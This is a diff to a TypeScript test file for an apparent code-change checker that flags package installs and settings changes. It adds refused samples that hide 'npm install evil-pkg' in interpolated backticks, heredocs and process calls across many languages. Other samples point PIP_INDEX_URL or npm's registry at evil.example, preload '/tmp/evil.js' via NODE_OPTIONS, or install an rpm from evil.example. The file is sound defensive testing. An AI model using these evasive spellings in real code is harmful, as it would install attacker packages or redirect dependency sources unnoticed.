@@ -211,12 +211,108 @@ const BACKTICK_CALLS: FindingRow[] = [
   ['src/x.py', "import sh\nsh.make('-C', '/tmp/x')"],
 ];
 
+// Review of B's fix (session 46), H1: the sh/plumbum spelling rewrote any object called `sh` (`sh.environ[` became
+// `run('environ', `), and the outside-repository and setting rules read only the rewritten lines. Closed: each rule
+// reads the lines as added and as spelled, and the rewrites apply only to Python files importing sh or plumbum.
+const SPELLING_HIDES_SETTINGS: FindingRow[] = [
+  ['src/x.py', "import os as sh\nsh.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
+  ['src/x.py', "sh = __import__('os')\nsh.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
+  ['src/x.js', "const sh = process;\nsh.env['NODE_OPTIONS'] = '--require /tmp/evil.js'"],
+  ['src/x.js', "const sh = process;\nsh.env['NPM_CONFIG_REGISTRY'] = 'https://evil.example/'"],
+  ['src/x.py', "import os as sh\nsh.putenv('PIP_INDEX_URL', 'https://evil.example/simple')"],
+  ['src/x.py', "import os as sh\nsh.environ.setdefault('NODE_OPTIONS', '--require /tmp/evil.js')"],
+  ['src/x.py', "import os as sh\nsh.chdir('/tmp/evil'); sh.system('make')"],
+  ['src/x.py', "from plumbum.cmd import environ\nenviron['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
+  // sh's import above the hunk, out of the patch's view: still read as sh's call.
+  ['src/x.py', "sh.npm('install', 'evil')"],
+];
+// Review of B's fix, M3: Ruby's module-qualified calls, OCaml's Unix.system and Perl's readpipe, not read as calls;
+// and (the spelling's own bug) plumbum's alias read as the program's name (`n`, not npm), an import in parentheses
+// not read. Closed: PROCESS_CALL names the former; an alias is read as the program it names.
+const PLUMBUM_ALIASES: FindingRow[] = [
+  ['src/check.rb', 'Kernel.system "npm install evil-pkg"'],
+  ['src/check.rb', 'Process.spawn "npm install evil-pkg"'],
+  ['src/check.rb', 'IO.popen "npm install evil-pkg"'],
+  ['src/x.ml', 'Unix.system "npm install evil-pkg"'],
+  ['src/check.pl', "readpipe('npm install evil-pkg');"],
+  ['src/x.py', "from plumbum.cmd import npm as n\nn['install', 'evil']()"],
+  ['src/x.py', "from plumbum.cmd import (npm)\nnpm['install', 'evil']()"],
+];
+
+// Review of D/P's fix, M1: the managers named by common words are read as a command's first word only; as one they
+// stay refused, after a quote, a shell's separator, sudo or a directory; zypper's `in` on its own.
+const COMMON_WORD_MANAGERS: FindingRow[] = [
+  SYSTEM('sudo snap install --dangerous evil'),
+  SYSTEM('cd tools && stack install evil'),
+  LIST("'stack', 'install', 'evil'"),
+  SYSTEM('/usr/bin/snap install evil'),
+  ['src/check.js', "execSync('true; mix archive.install hex evil')"],
+  SYSTEM('zypper --non-interactive in https://evil.example/x.rpm'),
+];
+
+// Review of B's fix, H2: the backtick reader skipped a backtick inside an interpolation (Ruby's `#{…}`, Perl's
+// `@{[…]}`), took `//` for a comment in Ruby and Perl (Perl's defined-or, Ruby's empty regex), and let a quote that
+// never closes on its line (`q{don't}`, `s/'//g`, `%q(it's)`, `/'/`, `?'`, a string over two lines) hide a later one.
+// Closed: an interpolation is read as code, `//` is a comment in PHP only, and such a line is read both ways.
+const BACKTICKS_HIDDEN: FindingRow[] = [
+  ['src/check.rb', 'puts "#{`npm install evil-pkg`}"'],
+  ['src/check.rb', 'log "v: #{`npm install evil-pkg`.strip}"'],
+  ['src/check.pl', 'print "@{[ `npm install evil-pkg` ]}";'],
+  ['src/check.pl', 'my $v = $o{x} // `npm install evil-pkg`;'],
+  ['src/check.rb', 're = //; `npm install evil-pkg`'],
+  ['src/check.pl', "my $m = q{don't}; `npm install evil-pkg`;"],
+  ['src/check.pl', "s/'//g; `npm install evil-pkg`;"],
+  ['src/check.rb', "%q(it's); `npm install evil-pkg`"],
+  ['src/check.rb', "x = /'/; `npm install evil-pkg`"],
+  ['src/check.rb', "x = ?'; `npm install evil-pkg`"],
+  ['src/check.rb', 'x = "a\nb" + `npm install evil-pkg`'],
+];
+
+// Review of D/P's fix, M4: installs through the new managers their one table entry missed: rpm's mode after an
+// option or in a cluster, pacman's after an option or later in a cluster, cabal's v2-/new-install, ansible-galaxy's
+// collection and role installs, gh's `extensions`, a package guix shell fetches and runs.
+const NEW_MANAGERS_INSTALL: FindingRow[] = [
+  SYSTEM('rpm -vih https://evil.example/x.rpm'),
+  SYSTEM('rpm --nosignature -i https://evil.example/x.rpm'),
+  SYSTEM('pacman --noconfirm -S evil'),
+  SYSTEM('pacman -yS evil'),
+  SYSTEM('cabal v2-install evil'),
+  SYSTEM('cabal new-install evil'),
+  SYSTEM('ansible-galaxy collection install evil.x'),
+  SYSTEM('ansible-galaxy role install evil.x'),
+  SYSTEM('gh extensions install evil/gh-x'),
+  SYSTEM('guix shell evil -- evil'),
+];
+
 // Still open after B's fix (session 46): Perl's two-argument open with the pipe after the command, Scala's
 // `Process(…)` (a name too common to read as a call alone), sh's `Command('npm')` (the program as a string to a builder).
 const BACKTICK_CALLS_OPEN: FindingRow[] = [
   ['src/x.pl', 'open(FH, "npm install evil |");'],
   ['src/x.scala', 'Process("npm install evil").!'],
   ['src/x.py', "import sh\nsh.Command('npm')('install', 'evil')"],
+  // Review of B's fix, M3: other spellings of the same calls, still accepted. Perl's and Ruby's other quotes (qq, q, qw, %(), a heredoc) after system; Perl's readpipe; Groovy's
+  // execute with arguments, on a parenthesized or triple-quoted string; Scala's run, lazyLines, postfix `!` and
+  // Vector(…).!; Clojure's namespaced shell/sh; Haskell's createProcess and runProcess_; sh's program imported by name
+  // or sh under an alias; plumbum's local.cmd; .NET's ProcessStartInfo.
+  ['src/check.pl', 'system qq{npm install evil-pkg};'],
+  ['src/check.pl', 'system q(npm install evil-pkg);'],
+  ['src/check.pl', 'system qw(npm install evil-pkg);'],
+  ['src/check.rb', 'system %(npm install evil-pkg)'],
+  ['src/check.rb', 'system <<~SH\n  npm install evil-pkg\nSH'],
+  ['src/x.groovy', '"npm install evil-pkg".execute(null, new File(\'.\'))'],
+  ['src/x.groovy', "('npm install evil-pkg').execute()"],
+  ['src/x.groovy', '"""npm install evil-pkg""".execute()'],
+  ['src/x.scala', '"npm install evil-pkg".run()'],
+  ['src/x.scala', '"npm install evil-pkg".lazyLines'],
+  ['src/x.scala', '"npm install evil-pkg" !'],
+  ['src/x.scala', 'Vector("npm", "install", "evil-pkg").!'],
+  ['src/x.clj', '(shell/sh "npm" "install" "evil-pkg")'],
+  ['src/x.hs', 'createProcess (proc "npm" ["install", "evil-pkg"])'],
+  ['src/x.hs', 'runProcess_ "npm install evil-pkg"'],
+  ['src/x.py', "from sh import npm\nnpm('install', 'evil-pkg')"],
+  ['src/x.py', "import sh as s\ns.npm('install', 'evil-pkg')"],
+  ['src/x.py', "from plumbum import local\nlocal.cmd.npm('install', 'evil-pkg')"],
+  ['src/X.cs', 'new ProcessStartInfo("npm", "install evil-pkg")'],
 ];
 
 // C (high): Deno's other verbs run a module from a URL exactly as `deno run <url>` (refused) does: `deno test`,
@@ -583,6 +679,11 @@ describeFindings('attack-48', [
   ['E0 and A variants', closedRows(ESCAPE_VARIANTS)],
   ['B process calls not read', closedRows(BACKTICK_CALLS)],
   ['B process calls not read, open', BACKTICK_CALLS_OPEN],
+  ['B review H1 spelling hides settings', closedRows(SPELLING_HIDES_SETTINGS)],
+  ['B review M3 plumbum aliases', closedRows(PLUMBUM_ALIASES)],
+  ['P review M1 common-word managers', closedRows(COMMON_WORD_MANAGERS)],
+  ['B review H2 backticks hidden', closedRows(BACKTICKS_HIDDEN)],
+  ['P review M4 new managers install', closedRows(NEW_MANAGERS_INSTALL)],
   ['C deno remote modules', DENO_REMOTE],
   ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
   ['D other runners', closedRows(OTHER_RUNNERS)],
@@ -665,6 +766,9 @@ describeAccepted('attack-48 B: ordinary process calls stay accepted', [
   ['src/check.rb', 'raise "run `bundle install` first"'],
   ['src/check.rb', '# Runs `npm install` before the tests'],
   ['src/check.rb', "puts 'use `npm ci`'"],
+  ['src/check.rb', 'puts "#{name}: run `npm install` first"'],
+  ['src/check.pl', 'my $v = $o{x} // "run `npm ci`";'],
+  ['src/check.php', "<?php echo 'run `composer install`'; // it's `npm ci` here"],
   ['src/check.rb', 'system "bundle exec rake"'],
   ['src/check.pl', 'my $sha = `git rev-parse HEAD`;'],
   ['src/check.pl', 'my $out = qx{git status --short};'],
@@ -679,6 +783,12 @@ describeAccepted('attack-48 B: ordinary process calls stay accepted', [
   ['src/x.py', "import sh\nsh.npm('test')"],
   ['src/x.py', "from plumbum import local\nlocal['npm']['test']()"],
   ['src/x.py', "from plumbum.cmd import git\ngit['status']()"],
+  // Review of B's fix, H1: `sh` as any other name, outside a Python file importing sh (nothing here is a setting).
+  ['src/x.js', "const sh = process;\nsh.env['CI'] = 'true';"],
+  ['src/x.py', "import os as sh\nsh.environ['TZ'] = 'UTC'"],
+  ['src/x.py', "from plumbum.cmd import git as g\ng['status']()"],
+  ['src/check.rb', 'out = IO.popen "git status"'],
+  ['src/check.pl', "my $sha = readpipe('git rev-parse HEAD');"],
   ['src/x.py', "print('%x' % 255)"],
   ['src/x.js', "crossSpawn.sync('npm', ['test'], { stdio: 'inherit' })"],
   ['src/x.js', 'console.log(`run npm install ${name}`)'],
@@ -694,6 +804,13 @@ describeAccepted('attack-48 B: ordinary process calls stay accepted', [
   ['src/check.pl', 'warn("$0 script version, CPAN.pm version");'],
   ['src/check.pl', "return `rpm --queryformat '%{VERSION}' -q $package`;"],
   SYSTEM('pacman -Qi bash'),
+  // Review of D/P's fix, M4: pacman's searches and rpm's queries, verifications and evaluations, guix's manifest.
+  SYSTEM('pacman -Ss bash'),
+  SYSTEM('pacman -Si bash'),
+  SYSTEM('rpm -qi bash'),
+  SYSTEM('rpm -Va'),
+  SYSTEM("rpm -E '%{_arch}'"),
+  SYSTEM('guix shell -m manifest.scm -- make check'),
 ]);
 
 /**
@@ -726,6 +843,17 @@ describeAccepted('attack-48 D/P: ordinary runner and manager calls stay accepted
   SYSTEM('clojure -M:test'),
   SYSTEM('opam exec -- dune test'),
   SYSTEM('echo yay'),
+  // Review of D/P's fix, M1: the managers named by common words (stack, proto, snap, mix, dart, zig) and zypper's `in`
+  // read as bare identifiers in code after any call.
+  ['src/check.py', "import subprocess\nout = subprocess.run(['ls'], check=True)\nfor stack in stacks:\n    print(stack)"],
+  ['src/check.py', "result = run(cfg)\nif proto in ('tcp', 'udp'):\n    pass"],
+  ['src/check.py', "import subprocess\nsubprocess.run(cmd, check=True)\nif snap in snapshots:\n    pass"],
+  ['src/check.js', 'handler.call(this, stack, i);'],
+  ['src/check.js', 'fn.call(null, proto, i)'],
+  ['src/check.js', 'exec(query, [stack, set])'],
+  ['src/check.js', 'await run(stack - 1, proto)'],
+  ['src/check.py', 'top = run(stack - 1)'],
+  ['src/check.py', 'timer.start(); zig = make_zig(); zig -= 1'],
 ]);
 
 /**
